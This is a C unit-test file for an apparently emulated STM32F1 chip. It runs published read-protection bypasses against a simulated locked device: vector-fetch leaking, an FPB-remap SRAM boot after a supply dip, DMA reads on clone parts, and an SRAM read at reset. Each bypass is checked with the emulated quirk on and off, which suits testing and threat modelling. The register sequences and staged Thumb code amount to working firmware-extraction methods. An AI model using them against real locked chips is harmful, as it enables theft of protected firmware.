/* SPDX-License-Identifier: MIT */
/*
 * The published ways past the STM32F1's read protection, as attacks that run:
 * with the quirk on they get the firmware, with it off they get nothing.  What
 * docs/threat-model.md says of this family comes from here.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <string.h>

#include <cmocka.h>

#include "tests/unit/f1_rig.h"

#define VTOR 0xe000ed08u
#define NVIC_ISER 0xe000e100u
#define NVIC_ISPR 0xe000e200u
#define NVIC_ICER 0xe000e180u
#define NVIC_ICPR 0xe000e280u
#define SECRET_AT (F1_FLASH + 0x2000)
#define SECRET_LEN 1024u
#define IRQS 43u /* of the xB */

static uint8_t secret[SECRET_LEN];

/* A locked chip with something worth having in it, just switched on. */
static struct mcu *victim_of(const char *profile, const char *quirks)
{
	struct mcu_config cfg = f1_config("stm32f103xb", quirks);
	struct mcu *m;
	uint32_t x = 12345;

	cfg.profile = profile;
	m = rig_new(&cfg);

	for (unsigned i = 0; i < SECRET_LEN; i++) {
		x = x * 1664525 + 1013904223;
		secret[i] = x >> 24;
	}
	f1_load(m, "f1_locked");
	f1_write(m, SECRET_AT, secret, SECRET_LEN);
	f1_lock(m);
	f1_alone(m, 10);
	assert_int_equal(mcu_protection(m), 1);
	rig_debug_on(m);
	assert_int_equal(rig_try(m, SECRET_AT), MCU_BUS_FAULT);
	return m;
}

static struct mcu *victim(const char *quirks)
{
	return victim_of("genuine", quirks);
}

/* -- vector fetch (CVE-2020-8004) ------------------------------------------ */

/* An interrupt that can be forced, whose vector is the word at addr; false when
 * the word is at none: the table has holes, and begins at 256 bytes. */
static bool choose(uint32_t addr, uint32_t *ret_vtor, unsigned *ret_irq)
{
	unsigned entry = addr / 4 % 64;

	if (entry < 16 || entry >= 16 + IRQS)
		return false;
	*ret_vtor = addr - 4 * entry;
	*ret_irq = entry - 16;
	return true;
}

/* Takes one interrupt, and reads where the core has gone. */
static uint32_t leak_word(struct mcu *m, uint32_t vtor, unsigned irq)
{
	uint32_t word = 4 * (irq / 32), bit = 1u << irq % 32, v;

	rig_w(m, VTOR, vtor);
	rig_set_reg(m, 15, F1_RAM + 0x400); /* a NOP is there */
	rig_set_reg(m, 16, 1u << 24);
	rig_set_reg(m, 13, F1_RAM + 0x1000);
	rig_set_reg(m, 20, 0);
	rig_w(m, NVIC_ISER + word, bit);
	rig_w(m, NVIC_ISPR + word, bit);
	rig_w(m, DHCSR, DBGKEY | 5); /* step */
	mcu_advance(m, 10 * US);
	v = rig_reg(m, 15) & ~1u;
	/* the lowest bit of a vector becomes the T bit */
	v |= rig_reg(m, 16) >> 24 & 1;
	rig_w(m, NVIC_ICER + word, bit);
	rig_w(m, NVIC_ICPR + word, bit);
	/* leave the handler, by the debugger's hand */
	rig_w(m, 0xe000ed0c, 0x05fa0002); /* VECTCLRACTIVE */
	rig_w(m, 0xe000ed28, 0xffffffff);
	rig_w(m, 0xe000ed2c, 0xffffffff);
	return v;
}

static unsigned leak_all(struct mcu *m, unsigned *ret_wrong)
{
	static const uint16_t nops[] = { 0xbf00, 0xbf00, 0xe7fc };
	unsigned got = 0;

	*ret_wrong = 0;
	rig_halt(m);
	rig_ram(m, F1_RAM + 0x400, nops, sizeof(nops));
	for (uint32_t i = 0; i < SECRET_LEN; i += 4) {
		uint32_t vtor, want;
		unsigned irq;

		if (!choose(SECRET_AT + i, &vtor, &irq))
			continue;
		memcpy(&want, secret + i, 4);
		if (leak_word(m, vtor, irq) == want)
			got += 4;
		else
			*ret_wrong += 4;
	}
	return got;
}

static void test_vector_fetch(void **state)
{
	struct mcu *m = victim("vector-fetch");
	unsigned wrong, got = leak_all(m, &wrong);

	(void)state;
	/* 43 of 64 words by interrupts alone; system exceptions add some */
	assert_int_equal(got, SECRET_LEN / 64 * 43);
	assert_int_equal(wrong, 0);
	assert_int_equal(rig_try(m, SECRET_AT), MCU_BUS_FAULT);
	mcu_free(m);
}

static void test_vector_fetch_off(void **state)
{
	struct mcu *m = victim(NULL);
	unsigned wrong;

	(void)state;
	assert_int_equal(leak_all(m, &wrong), 0);
	mcu_free(m);
}

/* -- RAM boot, FPB, flash boot --------------------------------------------- */

#define FP_CTRL 0xe0002000u
#define FP_REMAP 0xe0002004u
#define FP_COMP1 0xe000200cu
#define REMAP_TABLE (F1_RAM + 0x100)
#define DUMP (F1_RAM + 0x800)

/*
 * First stage, booted from SRAM: the flash patch unit shall give the reset
 * vector from SRAM; then it waits for the reset.  Second stage: copies the
 * secret to DUMP.  Written to SRAM with nobody looking: a dip of the supply
 * keeps it, and makes the chip forget the debugger.
 */
static const uint32_t stages[] = {
	/* vectors */
	0x20001000,
	0x20000011,
	0,
	0,
	/* 0x10: ldr r0,=FP_CTRL; movs r1,#3; ldr r2,=REMAP; str r2,[r0,#4];
	 * movs r2,#5; str r2,[r0,#12]; str r1,[r0]; b . */
	0x21034804,
	0x60424a04,
	0x60c22205,
	0xe7fe6001,
	0,
	0xe0002000,
	0x20000100,
	0,
	/* 0x30, unused */
	0,
	0,
	0,
	0,
	/* 0x40: ldr r0,=SECRET; ldr r1,=DUMP; ldr r2,=256; 1: ldr r3,[r0];
	 * str r3,[r1]; adds r0,#4; adds r1,#4; subs r2,#1; bne 1b; b . */
	0x49054804,
	0x68034a05,
	0x3004600b,
	0x3a013104,
	0xe7fed1f9,
	SECRET_AT,
	DUMP,
	SECRET_LEN / 4,
};

static void dump_by_fpb(struct mcu *m)
{
	static const uint32_t table[] = { 0, 0x20000041 };

	rig_halt(m);
	rig_ram(m, F1_RAM, stages, sizeof(stages));
	rig_ram(m, REMAP_TABLE, table, sizeof(table));
	for (unsigned i = 0; i < SECRET_LEN; i += 4)
		rig_w(m, DUMP + i, 0);
	mcu_debug_power(m, false, false);
	mcu_pin_drive(m, 'X', 0, 1); /* BOOT0, BOOT1: SRAM */
	mcu_pin_drive(m, 'B', 2, 1);
	mcu_power(m, false);
	mcu_advance(m, 5 * MS);
	mcu_power(m, true);
	mcu_advance(m, MS);
	mcu_pin_drive(m, 'X', 0, 0); /* flash */
	mcu_nrst(m, true);
	mcu_advance(m, US);
	mcu_nrst(m, false);
	mcu_advance(m, 10 * MS);
	rig_debug_on(m);
}

static unsigned dumped(struct mcu *m)
{
	unsigned n = 0;

	for (unsigned i = 0; i < SECRET_LEN; i += 4) {
		uint32_t want;

		memcpy(&want, secret + i, 4);
		n += rig_r(m, DUMP + i) == want ? 4 : 0;
	}
	return n;
}

static void test_fpb_reset(void **state)
{
	struct mcu *m = victim("fpb-reset");

	(void)state;
	dump_by_fpb(m);
	assert_int_equal(dumped(m), SECRET_LEN);
	mcu_free(m);
}

static void test_fpb_reset_off(void **state)
{
	struct mcu *m = victim(NULL);

	(void)state;
	dump_by_fpb(m);
	assert_int_equal(dumped(m), 0);
	assert_int_equal(f1_peek(m, F1_RESULT + 28), 0x5a); /* firmware ran */
	mcu_free(m);
}

/* Without a dip that keeps SRAM there is nothing to boot. */
static void test_fpb_reset_long_outage(void **state)
{
	struct mcu *m = victim("fpb-reset");

	(void)state;
	rig_halt(m);
	rig_ram(m, F1_RAM, stages, sizeof(stages));
	mcu_power(m, false);
	mcu_advance(m, 1000 * MS);
	mcu_power(m, true);
	assert_memory_not_equal(&(uint32_t){ f1_peek(m, F1_RAM) }, stages, 4);
	mcu_free(m);
}

/* -- DMA on imitations --------------------------------------------------------
 */

#define DMA1 0x40020000u

/* What a debugger gets by asking the DMA controller for it. */
static unsigned dump_by_dma(struct mcu *m)
{
	rig_halt(m);
	rig_w(m, 0x40021014, 0x15);
	for (unsigned i = 0; i < SECRET_LEN; i += 4)
		rig_w(m, DUMP + i, 0);
	rig_w(m, DMA1 + 0x10, SECRET_AT);
	rig_w(m, DMA1 + 0x14, DUMP);
	rig_w(m, DMA1 + 0x0c, SECRET_LEN / 4);
	rig_w(m, DMA1 + 0x08, 1u << 14 | 2u << 10 | 2u << 8 | 3u << 6 | 1);
	mcu_advance(m, MS);
	return dumped(m);
}

static void test_dma(void **state)
{
	static const struct {
		const char *profile;
		unsigned got;
	} chips[] = {
		{ "genuine", 0 },
		{ "gd32f103", SECRET_LEN },
		{ "cks32f103", SECRET_LEN },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(chips) / sizeof(chips[0]); i++) {
		struct mcu *m = victim_of(chips[i].profile, NULL);

		assert_int_equal(dump_by_dma(m), chips[i].got);
		/* the controller tells of the refusal */
		assert_int_equal(rig_r(m, DMA1) & 0xa, chips[i].got ? 2 : 8);
		mcu_free(m);
	}
}

/* -- SRAM at level 1 --------------------------------------------------------
 */

/* No quirk: the part is like that.  What firmware has in SRAM when a reset
 * catches it, a debugger reads. */
static void test_sram(void **state)
{
	struct mcu *m = victim(NULL);

	(void)state;
	rig_power_cycle(m); /* nobody looked since */
	mcu_debug_power(m, false, false);
	mcu_advance(m, 10 * MS);
	mcu_nrst(m, true);
	rig_debug_on(m);
	rig_w(m, DEMCR, 0x01000001); /* halt at the reset vector */
	rig_w(m, DHCSR, DBGKEY | 1);
	mcu_nrst(m, false);
	mcu_advance(m, 100 * US);
	assert_int_equal(rig_r(m, F1_RESULT + 28), 0x5a);
	assert_int_equal(rig_try(m, SECRET_AT), MCU_BUS_FAULT);
	mcu_free(m);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_vector_fetch),
		cmocka_unit_test(test_vector_fetch_off),
		cmocka_unit_test(test_fpb_reset),
		cmocka_unit_test(test_fpb_reset_off),
		cmocka_unit_test(test_fpb_reset_long_outage),
		cmocka_unit_test(test_dma),
		cmocka_unit_test(test_sram),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
